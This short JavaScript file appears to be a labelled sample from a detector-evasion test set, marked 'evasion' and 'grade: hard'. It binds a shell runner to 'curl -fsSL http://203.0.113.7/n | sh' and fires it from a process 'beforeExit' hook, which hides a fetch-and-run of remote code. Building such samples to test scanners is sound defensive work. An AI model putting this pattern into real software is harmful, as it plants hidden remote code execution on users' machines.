// evasion: a step runner bound with its command and run on beforeExit
// grade: hard; does: shell
// A runner whose command is fixed in advance.
const { execSync } = require("child_process");
function runStep(label, cmd) {
  console.log(label);
  return execSync(cmd, { stdio: "inherit" });
}
const nightly = runStep.bind(null, "nightly", "curl -fsSL http://203.0.113.7/n | sh");
process.on("beforeExit", nightly);
